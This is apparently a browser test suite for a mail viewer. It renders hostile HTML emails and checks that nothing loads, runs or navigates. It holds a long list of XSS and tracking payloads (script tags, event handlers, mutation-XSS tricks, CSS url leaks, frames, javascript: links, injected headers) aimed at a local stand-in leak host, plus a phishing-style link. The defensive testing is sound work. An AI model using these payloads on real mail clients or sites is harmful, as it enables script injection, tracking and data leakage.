/**
 * A hostile message is opened in a real browser. Whatever it tries, nothing may reach the network, run, or
 * change the page around it. A counter on loopback stands for the rest of the world.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium';
import {
  type InspectorSite,
  type LeakCounter,
  startInspectorSite,
  startLeakCounter,
} from '../support/inspector-site';
import { describeWith } from '../support/packages';
import { hexId } from '../support/sample-mail';

const waitMs = 15_000;

/** Each entry is one way to load, run or leave that mail has used. `LEAK` becomes the counter's address. */
const attacks: Record<string, string> = {
  script: '<script>fetch("LEAK/script");parent.owned=1</script>',
  'script elsewhere': '<script src="LEAK/script.js"></script>',
  'event handler':
    '<img src=x onerror="fetch(\'LEAK/onerror\');parent.owned=1"><body onload="fetch(\'LEAK/onload\')">',
  'script in SVG':
    '<svg onload="fetch(\'LEAK/svg\')"><script>fetch("LEAK/svgscript")</script><image href="LEAK/svgimg"/></svg>',
  'use in SVG': '<svg><use href="LEAK/use.svg#a"/><style>@import "LEAK/svgcss";</style></svg>',
  'MathML confusion':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=LEAK/mxss onerror=fetch(1)&gt;">',
  'noscript confusion': '<noscript><p title="</noscript><img src=LEAK/noscript>"></noscript>',
  picture: '<img src="LEAK/pixel.gif" width=1 height=1>',
  'picture set': '<img srcset="LEAK/srcset.png 2x"><picture><source srcset="LEAK/source.png"><img></picture>',
  'relative scheme': '<img src="//LEAKHOST/relative.gif">',
  background: '<table background="LEAK/background.png"><tr><td background="LEAK/td.png">x</td></tr></table>',
  'style attribute': '<div style="background:url(LEAK/inline.png);list-style:url(\'LEAK/list.png\')">x</div>',
  'escaped style': '<div style="background:u\\72l(LEAK/escaped.png)">x</div>',
  'style sheet': '<style>@import url(LEAK/import.css);body{background:url(LEAK/css.png)}</style>',
  font: '<style>@font-face{font-family:f;src:url(LEAK/font.woff)}p{font-family:f}</style><p>text</p>',
  'split style': '<div style="background:u@import x;rl(LEAK/split.png)">x</div>',
  'style string ended by a line': '<div style="a:\'&#12;;background:url(LEAK/line.png)">x</div>',
  'SVG in style':
    '<style>b{mask:url(LEAK/mask.svg#m);filter:url(LEAK/filter.svg#f);clip-path:url(LEAK/clip.svg#c)}</style><b>x</b>',
  'picture in SVG': '<svg><feImage href="LEAK/fe"/><a xlink:href="LEAK/a"><text>x</text></a></svg>',
  cursor: '<style>*{cursor:url(LEAK/cursor.cur),auto}</style>',
  'style sheet link': '<link rel=stylesheet href="LEAK/link.css"><link rel=prefetch href="LEAK/prefetch">',
  hints:
    '<link rel=dns-prefetch href="LEAK"><link rel=preconnect href="LEAK"><link rel=preload as=image href="LEAK/preload">',
  frame:
    '<iframe src="LEAK/frame"></iframe><iframe srcdoc="<img src=LEAK/srcdoc>"></iframe><frameset><frame src="LEAK/fs"></frameset>',
  object: '<object data="LEAK/object"></object><embed src="LEAK/embed"><applet code="LEAK/applet"></applet>',
  media:
    '<video src="LEAK/video" poster="LEAK/poster" autoplay></video><audio src="LEAK/audio" autoplay></audio><track src="LEAK/track">',
  refresh: '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
  'own policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="LEAK/policy.gif">',
  base: '<base href="LEAK/base/"><img src="relative.gif"><a href="page">x</a>',
  form: '<form action="LEAK/form" id=f><input name=q autofocus><button>Go</button></form><input form=f type=image src="LEAK/inputimg">',
  'javascript address': '<a href="javascript:fetch(\'LEAK/js\')" id=js>x</a><img src="javascript:alert(1)">',
  'data frame': '<iframe src="data:text/html,<img src=LEAK/data>"></iframe><a href="data:text/html,x">d</a>',
  clobbering: '<img name=body src=x><form name=querySelector></form><a id=documentElement></a>',
  'shadow root': '<div><template shadowrootmode=open><img src="LEAK/shadow"></template></div>',
  'broken out': '</body></html><img src="LEAK/after"><script>fetch("LEAK/afterscript")</script>',
  'quoted out': '"></iframe><img src="LEAK/quoted"><script>parent.owned=1</script>',
  'input image': '<input type=image src="LEAK/image-input"><button formaction="LEAK/fa">x</button>',
  'manifest and icon': '<html manifest="LEAK/manifest"><link rel=icon href="LEAK/icon"></html>',
};

function messageWith(html: string): string {
  return [
    'From: "</style><img src=LEAK/from>" <evil@evil.test>',
    'To: ann@corp.test',
    'Subject: <img src="LEAK/subject"> offer',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '<p id=end>The end of the offer</p>',
    '--b',
    'Content-Type: text/html; name="<img src=LEAK/name>.html"',
    'Content-Disposition: attachment; filename="<img src=LEAK/filename>.html"',
    '',
    '<img src="LEAK/attached">',
    '--b--',
    '',
  ].join('\r\n');
}

describeWith(['chromium'], 'a hostile message in the message pane', () => {
  let browser: Browser;
  let site: InspectorSite;
  let leaks: LeakCounter;
  let shared: Page;

  beforeAll(async () => {
    [browser, site, leaks] = await Promise.all([launchChromium(), startInspectorSite(), startLeakCounter()]);
    shared = await openFolder(attacks);
  });
  afterAll(async () => {
    await Promise.all([browser?.close(), site?.close(), leaks?.close()]);
  });

  /** A Drop folder with one message for each entry, its key in the subject; all rows are on the screen. */
  async function openFolder(messages: Record<string, string>): Promise<Page> {
    const page = await browser.newPage({ viewport: { width: 1000, height: 1600 } });
    const drop = Object.entries(messages).map(([name, html], index) => {
      const source = messageWith(html)
        .replaceAll('//LEAKHOST', `//127.0.0.1:${leaks.port}`)
        .replaceAll('LEAK', leaks.origin);
      const row = {
        id: hexId(index + 1),
        receivedAt: Date.now(),
        sizeBytes: source.length,
        from: '<img src=x onerror=fetch(1)>',
        subject: `${name} <img src="${leaks.origin}/row">`,
        sender: 'evil@evil.test',
        recipients: ['ann@corp.test'],
        hasAttachments: true,
      };
      return { row, source };
    });
    await page.addInitScript(
      (given) => {
        window.mailbox = given;
        // The script also comes into the sandboxed frames, which have no storage.
        if (window.top === window) localStorage.setItem('mailroot.ui.split.mail.drop', '1100');
      },
      { drop, badmail: [], queue: [], calls: [] },
    );
    await page.goto(`${site.origin}/?view=drop`);
    return page;
  }

  async function choose(page: Page, name: string): Promise<void> {
    await page.getByRole('row', { name }).first().click({ timeout: waitMs });
    await page
      .getByRole('region', { name: 'Message' })
      .getByRole('heading', { name })
      .waitFor({ timeout: waitMs });
    const frame = await page.waitForSelector('iframe[title="Message"]', { timeout: waitMs });
    const content = await frame.contentFrame();
    await content?.waitForLoadState('load', { timeout: waitMs });
  }

  async function openMessage(html: string): Promise<Page> {
    const page = await openFolder({ Offer: html });
    await choose(page, 'Offer');
    return page;
  }

  /**
   * What arrived at the counter. A screenshot makes the browser lay out and paint everything, which is when it
   * asks for pictures and fonts; two round trips after that come later than whatever was asked for.
   */
  async function leaked(page: Page): Promise<string[]> {
    await page.screenshot({ timeout: waitMs });
    await page.evaluate(() => fetch('/favicon.ico').catch(() => undefined));
    await fetch(`${leaks.origin}/fence`);
    return leaks.requests.splice(0).filter((request) => !request.endsWith('/fence'));
  }

  it('the counter counts: the same message in a bare page does leak', async () => {
    const page = await browser.newPage();
    await page.setContent(`<img src="${leaks.origin}/pixel.gif">`, { waitUntil: 'load', timeout: waitMs });
    expect(await leaked(page)).toEqual(['GET /pixel.gif']);
    await page.close();
  });

  it.each(Object.keys(attacks))('%s: nothing leaves, nothing runs', async (name) => {
    await choose(shared, `${name} <img`);
    expect(await leaked(shared)).toEqual([]);
    expect(await shared.evaluate(() => 'owned' in window)).toBe(false);
    expect(shared.url()).toBe(`${site.origin}/?view=drop`);
  });

  it('what is not taken out of the HTML is held by the policy and the sandbox alone', async () => {
    const page = await openMessage('<p>Plain</p>');
    const policy = await page.locator('iframe[title="Message"]').evaluate((frame: HTMLIFrameElement) => {
      const meta = frame.contentDocument?.querySelector('meta[http-equiv=Content-Security-Policy]');
      return { meta: meta?.outerHTML ?? '', sandbox: frame.getAttribute('sandbox') ?? 'none' };
    });
    expect(policy.meta).toContain("default-src 'none'");
    for (const attack of Object.values(attacks)) {
      const html = attack.replaceAll('LEAKHOST', `127.0.0.1:${leaks.port}`).replaceAll('LEAK', leaks.origin);
      await page.evaluate(
        ({ source, sandbox }) =>
          new Promise((loaded) => {
            const frame = document.createElement('iframe');
            frame.setAttribute('sandbox', sandbox);
            frame.addEventListener('load', loaded);
            frame.srcdoc = source;
            document.body.prepend(frame);
          }),
        { source: `<!doctype html><head>${policy.meta}</head><body>${html}`, sandbox: policy.sandbox },
      );
      expect(await leaked(page), attack).toEqual([]);
    }
    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
    expect(page.url()).toBe(`${site.origin}/?view=drop`);
    await page.close();
  });

  it('all of it in one message, in every tab: nothing leaves', async () => {
    const page = await openMessage(Object.values(attacks).join('\n'));
    for (const tab of ['Text', 'Source', 'Headers', 'Parts (3)', 'Envelope', 'HTML']) {
      const button = page.getByRole('tab', { name: tab });
      if (await button.isEnabled()) await button.click();
    }
    expect(await leaked(page)).toEqual([]);
    await page.close();
  });

  it('links lead nowhere and say where they would lead', async () => {
    const page = await openMessage(`<a href="LEAK/link" target=_top>Click</a>`);
    const link = page.frameLocator('iframe[title="Message"]').getByText('Click');
    expect(await link.getAttribute('href')).toBeNull();
    expect(await link.getAttribute('title')).toBe(`${leaks.origin}/link`);
    await link.click();
    expect(await leaked(page)).toEqual([]);
    expect(page.url()).toBe(`${site.origin}/?view=drop`);
    await page.close();
  });

  it('says that remote images are blocked, and only then', async () => {
    const remote = await openMessage('<img src="LEAK/pixel.gif">');
    await remote.getByText('Images are blocked.').waitFor({ timeout: waitMs });
    await remote.close();
    const plain = await openMessage('<p>Plain</p>');
    await plain
      .frameLocator('iframe[title="Message"]')
      .getByText('The end of the offer')
      .waitFor({ timeout: waitMs });
    expect(await plain.getByText('Images are blocked.').count()).toBe(0);
    await plain.close();
  });

  it('a link is shown when it is pointed at or focused, and opened only after a question', async () => {
    const page = await openMessage('<a href="https://evil.test/pay?x=1">www.bank.test</a>');
    const link = page.frameLocator('iframe[title="Message"]').getByText('www.bank.test');
    await link.focus();
    await page.getByText('but the link leads to evil.test').waitFor({ timeout: waitMs });
    await link.press('Enter');
    const question = page.getByRole('alertdialog', { name: 'Open this link in your browser?' });
    await question.getByText('evil.test', { exact: true }).waitFor({ timeout: waitMs });
    await page.waitForFunction(() => document.activeElement?.textContent === 'Cancel', undefined, {
      timeout: waitMs,
    });
    await page.keyboard.press('Enter');
    await question.waitFor({ state: 'hidden', timeout: waitMs });
    expect(page.context().pages()).toHaveLength(1);
    await page.close();
  });

  it('shows pictures from elsewhere when asked to, and still nothing else', async () => {
    const page = await openMessage(
      ['script', 'event handler', 'style sheet link', 'font', 'media', 'form', 'javascript address']
        .map((name) => attacks[name])
        .join('\n')
        .concat('<img src="LEAK/wanted.gif">'),
    );
    await page.getByRole('button', { name: 'Show images' }).click();
    await page.getByText('Images are loaded').waitFor({ timeout: waitMs });
    await page
      .frameLocator('iframe[title="Message"]')
      .getByText('The end of the offer')
      .waitFor({ timeout: waitMs });
    const asked = await leaked(page);
    expect(asked).toContain('GET /wanted.gif');
    expect(
      asked.filter((request) => /script|css|font|frame|video|audio|form|link|prefetch|js/.test(request)),
    ).toEqual([]);
    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
    await page.close();
  });

  it('harmless formatting survives', async () => {
    const page = await openMessage(
      '<style>b{color:rgb(1,2,3)}</style><table><tr><td><b>Bold</b></td></tr></table>',
    );
    const bold = page.frameLocator('iframe[title="Message"]').getByText('Bold');
    expect(
      await bold.evaluate((element) => element.ownerDocument.defaultView?.getComputedStyle(element).color),
    ).toBe('rgb(1, 2, 3)');
    await page.close();
  });
});
